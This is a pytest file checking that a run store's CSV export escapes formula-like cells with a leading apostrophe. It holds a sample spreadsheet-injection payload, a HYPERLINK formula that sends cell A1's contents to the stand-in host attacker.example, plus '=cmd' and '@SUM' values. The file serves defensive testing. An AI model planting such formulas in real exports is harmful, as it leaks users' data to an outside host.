"""Exports of a stored run are safe to open: formula-like cells stay text in a spreadsheet."""

from __future__ import annotations

import csv
import io

from core.types import Answer
from eval.store.runs import RunStore, StoredAnswer, StrategyResult


def test_csv_export_neutralises_formula_cells(tmp_path):
    store = RunStore(tmp_path / "runs.sqlite")
    run_id = store.create_run({"strategies": ["fake"]})
    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
    answers = [
        StoredAnswer("fake", "q1", "+1 or @SUM(A1)?", ["-2", "=cmd"], Answer("+1", hostile)),
        StoredAnswer("fake", "q2", "What is 2-3?", ["-1"], Answer("What is 2-3?", "-1")),
    ]
    store.save_strategy(run_id, StrategyResult("fake", "done"), answers)
    rows = list(csv.DictReader(io.StringIO(store.export_csv(run_id))))
    assert rows[0]["answer"] == "'" + hostile
    assert rows[0]["question"] == "'+1 or @SUM(A1)?"
    assert rows[0]["golds"] == "'-2 | =cmd"  # the cell as a whole starts with "-"
    assert rows[1]["answer"] == "-1" and rows[1]["golds"] == "-1"  # plain numbers stay numbers
    assert rows[1]["question"] == "What is 2-3?"
